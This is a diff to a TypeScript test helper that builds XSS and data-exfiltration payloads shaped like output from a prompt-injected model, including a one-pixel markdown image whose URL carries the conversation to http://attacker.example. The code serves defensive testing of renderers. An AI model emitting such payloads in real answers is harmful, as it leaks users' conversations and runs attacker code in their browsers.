@@ -1,6 +1,6 @@
 /**
- * XSS and data-exfiltration payloads as a prompt-injected model might emit them (issue 6 §6,
- * seed 004: a one-pixel markdown image whose URL carries the conversation). `{JS}` becomes code that
+ * XSS and data-exfiltration payloads as a prompt-injected model might emit them (among them a
+ * one-pixel markdown image whose URL carries the conversation). `{JS}` becomes code that
  * reports a hit if it ever runs; `{URL}` becomes an attacker URL that records a hit if fetched.
  */
 const TEMPLATES: string[] = [
@@ -100,7 +100,7 @@ export function xssPayloads(): Payload[] {
       id,
       markdown: t.replaceAll('{JS}', `__xss('${id}')`).replaceAll('{URL}', `http://attacker.example/${id}`),
     });
-    // Variant with the conversation-leaking shape seed 004 describes.
+    // Variant with the conversation-leaking shape: an answer, then a payload whose URL carries data.
     const id2 = `p${i}b`;
     out.push({
       id: id2,
